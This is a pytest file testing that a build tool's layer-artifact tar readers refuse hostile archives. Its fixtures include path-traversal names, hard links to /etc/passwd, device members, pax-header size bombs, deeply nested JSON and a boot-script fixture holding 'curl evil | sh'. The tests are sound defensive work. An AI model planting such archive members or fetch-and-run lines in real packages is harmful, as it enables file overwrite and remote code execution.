"""A pulled layer's slug part read by the new tar reader (``_tar_members``, in memory)
and by the streaming one (large parts): whatever the tar holds, only what the index
lists is written, each member exactly as listed; anything else (hard links out,
devices, fifos, names with ``..``, duplicates, huge or damaged pax headers, sparse
members) refuses the entry: ArtifactInvalid, nothing published, nothing written
outside the layer. The index's own shape: one kind per path, nothing below a file
or a symlink (else unpacking failed midway with an OSError, read as "the registry
is unusable")."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import tarfile
from pathlib import Path
from typing import Any

import pytest

from slugbuild import layer_artifact
from slugbuild.cache import Cache
from slugbuild.layer_artifact import ARTIFACT_FORMAT, ArtifactInvalid, Fetched, materialise

KEY = "cd" * 32
NAME = f"python-3.12.0-{KEY[:12]}"
PYTHON = b"#!/bin/sh\n"


def member(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", linkname: str = "",
           pax: dict[str, str] | None = None) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.size, info.linkname, info.mode = kind, len(data), linkname, 0o644
    if kind == tarfile.CHRTYPE:
        info.devmajor, info.devminor = 1, 3
    info.pax_headers = pax or {}
    return info, data


def part(members: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return gzip.compress(raw.getvalue())


def entry(members: list[tuple[tarfile.TarInfo, bytes]], files: dict[str, bytes],
          symlinks: dict[str, str] | None = None, dirs: list[str] | None = None) -> Fetched:
    """An entry whose index lists ``files`` (path -> content) exactly; its part is
    ``members``, whatever they are."""
    index: dict[str, Any] = {
        "files": {rel: [len(data), 0o100644, hashlib.sha256(data).hexdigest()]
                  for rel, data in files.items()},
        "symlinks": symlinks or {}, "dirs": dirs if dirs is not None else ["bin"],
        "host_paths": None}
    config = {"format": ARTIFACT_FORMAT, "namespace": "sb1-test", "kind": "runtimes",
              "name": NAME, "key": KEY, "inputs": {}, "part": {"name": "p", "prefix": "./"}}
    return Fetched(config, index, part(members))


GOOD = member("./bin/python3", data=PYTHON)
LISTED = {"bin/python3": PYTHON}

HOSTILE = {
    "hard link out": [member("./bin/python3", tarfile.LNKTYPE, linkname="/etc/passwd")],
    "hard link in": [GOOD, member("./bin/python3", tarfile.LNKTYPE, linkname="./bin/python3")],
    "device": [member("./bin/python3", tarfile.CHRTYPE)],
    "fifo": [member("./bin/python3", tarfile.FIFOTYPE)],
    "directory in a file's place": [member("./bin/python3", tarfile.DIRTYPE)],
    "symlink in a file's place": [member("./bin/python3", tarfile.SYMTYPE, linkname="/etc")],
    "dot-dot name": [member("./bin/../bin/python3", data=PYTHON)],
    "climbing name": [GOOD, member("./../escaped", data=PYTHON)],
    "absolute name": [GOOD, member("/tmp/escaped", data=PYTHON)],
    "pax path with dot-dot": [GOOD, member("./x", data=PYTHON,
                                           pax={"path": "./../../escaped"})],
    "duplicate name": [GOOD, member("./bin/python3", data=b"#!/bin/evil\n")],
    "duplicate via pax path": [GOOD, member("./y", data=PYTHON, pax={"path": "./bin/python3"})],
    "unlisted extra file": [GOOD, member("./bin/extra", data=b"")],
    "another size": [member("./bin/python3", data=PYTHON + b"#")],
    "another content": [member("./bin/python3", data=b"#!/bin/ev\n")],
    "pax size beyond the part": [member("./bin/python3", data=PYTHON,
                                        pax={"size": "9" * 30})],
    "pax size of 5000 digits": [member("./bin/python3", data=PYTHON,
                                       pax={"size": "9" * 5000})],
    "nothing but a link": [member("./bin/python3", tarfile.SYMTYPE, linkname="python3")],
    "missing member": [],
}


@pytest.mark.parametrize("streaming", [False, True], ids=["in-memory", "streaming"])
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_part_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                   case: str, streaming: bool) -> None:
    if streaming:
        monkeypatch.setattr(layer_artifact, "IN_MEMORY_LIMIT", 0)
    cache = Cache(tmp_path / "cache")
    with pytest.raises(ArtifactInvalid):
        materialise(cache, entry(HOSTILE[case], LISTED))
    assert not (cache.root / "runtimes" / NAME).exists()
    assert not (tmp_path / "escaped").exists() and not Path("/tmp/escaped").exists()
    assert not list((cache.root / "tmp").glob("*runtimes*"))  # no half-made tree left


def test_damaged_headers_are_refused_by_both_readers(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    good = entry([GOOD], LISTED)
    raw = bytearray(gzip.decompress(good.part))
    raw[100:108] = b"zzzzzzz\0"  # the first header's mode: its checksum no longer matches
    for streaming in (False, True):
        monkeypatch.setattr(layer_artifact, "IN_MEMORY_LIMIT", 0 if streaming else 1 << 30)
        damaged = Fetched(good.config, good.index, gzip.compress(bytes(raw)))
        with pytest.raises(ArtifactInvalid):
            materialise(Cache(tmp_path / f"cache{streaming}"), damaged)


@pytest.mark.parametrize("streaming", [False, True], ids=["in-memory", "streaming"])
def test_a_pax_sparse_member_never_writes_more_than_its_listed_bytes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, streaming: bool) -> None:
    # A pax 1.0 sparse member declares a large real size: the streaming reader
    # refuses it, the in-memory one writes the stored bytes only if the index lists
    # exactly them. Never a file of the declared size.
    if streaming:
        monkeypatch.setattr(layer_artifact, "IN_MEMORY_LIMIT", 0)
    stored = b"1\n0\n10\n" + b"\0" * 505 + b"0123456789"
    sparse = member("./bin/python3", data=stored, pax={
        "GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "./bin/python3",
        "GNU.sparse.realsize": str(1 << 40)})
    cache = Cache(tmp_path / "cache")
    try:
        layer = materialise(cache, entry([sparse], {"bin/python3": stored}))
    except ArtifactInvalid:
        return
    assert (layer.tree / "bin" / "python3").read_bytes() == stored


@pytest.mark.parametrize(("files", "symlinks", "dirs"), [
    ({"bin/python3": PYTHON, "a": b""}, {}, ["bin", "a"]),        # a directory and a file
    ({"bin/python3": PYTHON}, {"l": "bin"}, ["bin", "l"]),        # a directory and a link
    ({"bin/python3": PYTHON}, {"bin/python3": "x"}, ["bin"]),     # a file and a link
    ({"bin/python3": PYTHON}, {}, ["bin", "bin/python3/sub"]),    # a directory below a file
    ({"bin/python3": PYTHON, "bin/python3/x": b""}, {}, ["bin"]),  # a file below a file
    # Paths sorting between a link and what lies below it ("l-a", "l.b" < "l/"): the
    # check bisects the sorted paths, it must still find "l/x/y".
    ({"bin/python3": PYTHON, "l-a": b"", "l.b": b"", "l/x/y": b""}, {"l": "bin"}, ["bin"]),
], ids=["dir-file", "dir-link", "file-link", "dir-below-file", "file-below-file",
        "deep-below-link"])
def test_an_index_listing_one_path_twice_is_refused_before_anything_is_written(
        tmp_path: Path, files: dict[str, bytes], symlinks: dict[str, str],
        dirs: list[str]) -> None:
    members = [member(f"./{rel}", data=data) for rel, data in files.items()]
    cache = Cache(tmp_path / "cache")
    with pytest.raises(ArtifactInvalid, match="twice|lies below"):
        materialise(cache, entry(members, files, symlinks, dirs))
    assert not (cache.root / "runtimes" / NAME).exists()


def test_a_name_too_long_for_this_file_system_is_the_entrys_fault(tmp_path: Path) -> None:
    # ENAMETOOLONG while unpacking used to escape as an OSError: the cache registry
    # then took itself for unusable and stopped serving every later layer.
    long = f"bin/{'n' * 300}"
    with pytest.raises(ArtifactInvalid, match="cannot be made here"):
        materialise(Cache(tmp_path / "cache"),
                    entry([GOOD, member(f"./{long}", data=b"")], {**LISTED, long: b""}))


@pytest.mark.parametrize("file_entry", [
    [len(PYTHON), 0o100644, [[["deep"]]]],                           # a digest that is a list
    {"1": [[[]]], "2": 0, "3": "x"},                                   # an object, not a list
    [len(PYTHON), 0o100644, hashlib.sha256(PYTHON).hexdigest(), 1],  # four fields
], ids=["list-digest", "object", "four-fields"])
def test_a_file_entry_of_another_shape_is_refused(tmp_path: Path, file_entry: Any) -> None:
    # The depth check of a pulled index skips the files _expected checked: only a
    # [size, mode, sha256] list of scalars passes it.
    fetched = entry([GOOD], LISTED)
    fetched.index["files"]["bin/python3"] = file_entry
    with pytest.raises(ArtifactInvalid, match="malformed"):
        materialise(Cache(tmp_path / "cache"), fetched)


class _OneManifest:
    """A store holding one manifest under every tag (and no blobs)."""

    def __init__(self, manifest: bytes) -> None:
        self.manifest = manifest

    def get_manifest(self, tag: str) -> bytes:
        return self.manifest

    def get_blob(self, digest: str, size: int) -> bytes:
        raise ArtifactInvalid("no such blob")


@pytest.mark.parametrize("manifest", [b"[" * 100000 + b"]" * 100000,
                                      b'{"config": ' + b"[" * 100000 + b"]" * 100000 + b"}"])
def test_a_deeply_nested_check_record_is_malformed_not_a_crash(manifest: bytes) -> None:
    # A passed import check travels as a manifest of its own (importcheck.py): nested
    # past the recursion limit, it was a RecursionError that failed the build.
    store = _OneManifest(manifest)
    with pytest.raises(ArtifactInvalid):
        layer_artifact.fetch_check(store, "sb1-test", "d" * 64)  # type: ignore[arg-type]
    with pytest.raises(ArtifactInvalid):
        layer_artifact.fetch_artifact(store, "sb1-test", "static", "k")  # type: ignore[arg-type]


def _nested(depth: int) -> Any:
    document: Any = []
    for _ in range(depth):
        document = [document]
    return document


def test_metadata_nested_deeper_than_slugbuilds_own_is_refused_at_the_pull(
        tmp_path: Path) -> None:
    # 900 levels parse at the pull, but the stack record or size breakdown written
    # from them beside the layer was a RecursionError when dumped, or read again
    # deeper in the build: refused where it arrives.
    good = entry([GOOD], LISTED)
    config = {**good.config, "part": {**good.config["part"], "stack": {"x": _nested(900)}}}
    blobs = {}

    def put(data: bytes) -> dict[str, Any]:
        digest = layer_artifact.digest_of(data)
        blobs[digest] = data
        return {"mediaType": "", "digest": digest, "size": len(data)}

    descriptors = [put(json.dumps(config).encode()), put(good.part),
                   put(json.dumps(good.index).encode())]
    for descriptor, media in zip(descriptors, (layer_artifact.CONFIG_TYPE,
                                               layer_artifact.PART_TYPE,
                                               layer_artifact.INDEX_TYPE)):
        descriptor["mediaType"] = media
    manifest = json.dumps({"config": descriptors[0], "layers": descriptors[1:]}).encode()

    class Store:
        def get_manifest(self, tag: str) -> bytes:
            return manifest

        def get_blob(self, digest: str, size: int) -> bytes:
            return blobs[digest]

    with pytest.raises(ArtifactInvalid, match="malformed"):
        layer_artifact.fetch_artifact(Store(), "sb1-test", "runtimes",  # type: ignore[arg-type]
                                      KEY)


def _stub_of(files: dict[str, bytes]) -> list[str]:
    """The paths a pusher's stub carries, as this slugbuild stubs (dist-info files and
    packages' __init__.py before part-only layers had a rule of their own)."""
    rule = getattr(layer_artifact, "_stubbed", None)
    if rule is not None:
        return [rel for rel in files if rule(rel)]
    return [rel for rel in files if ".dist-info/" in rel or rel.endswith("/__init__.py")]


@pytest.mark.parametrize("extra", [
    {},                                              # listed files, other bytes
    {"../../.profile.d/evil.sh": b"curl evil | sh\n"},  # and a boot script outside the layer
], ids=["backdoored", "outside"])
def test_a_part_unlike_its_index_is_never_kept_for_slugs(tmp_path: Path,
                                                         extra: dict[str, bytes]) -> None:
    # However an entry is kept (its tree written, or its part kept alone with a stub the
    # pusher carries in the index), the slug part kept for packing is what the index
    # lists: the slug, its slug.json and its SBOM must agree.
    site = "lib/python3.12/site-packages"
    clean = {f"{site}/pkg-1.0.dist-info/METADATA":
             b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n\n",
             f"{site}/pkg-1.0.dist-info/RECORD":
             b"pkg/__init__.py,,\npkg-1.0.dist-info/METADATA,,\npkg-1.0.dist-info/RECORD,,\n",
             f"{site}/pkg/__init__.py": b"SAFE = True\n"}
    stub = _stub_of(clean)
    index: dict[str, Any] = {
        "files": {rel: [len(data), 0o100644, hashlib.sha256(data).hexdigest()]
                  for rel, data in clean.items()},
        "symlinks": {}, "host_paths": None,
        "dirs": ["lib", "lib/python3.12", site, f"{site}/pkg", f"{site}/pkg-1.0.dist-info"],
        "stub": stub, "stub_data": {rel: base64.b64encode(clean[rel]).decode() for rel in stub}}
    sent = {**clean, f"{site}/pkg/__init__.py": b"SAFE = 0x0\n", **extra}
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        for rel, data in sent.items():
            info = tarfile.TarInfo(f"./.heroku/python/{rel}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    config = {"format": ARTIFACT_FORMAT, "namespace": "sb1-test", "kind": "layers",
              "name": "pkg-layer", "key": KEY, "inputs": {},
              "part": {"name": "p", "prefix": "./.heroku/python/", "raw_size": len(
                  raw.getvalue())}}
    try:
        layer = materialise(Cache(tmp_path / "cache"),
                            Fetched(config, index, gzip.compress(raw.getvalue())))
    except ArtifactInvalid:
        return
    [kept] = layer.packed_parts.glob("*.gz")
    with tarfile.open(kept) as tar:
        held = {m.name: tar.extractfile(m).read() for m in tar.getmembers() if m.isfile()}
    assert held == {f"./.heroku/python/{rel}": data for rel, data in clean.items()}
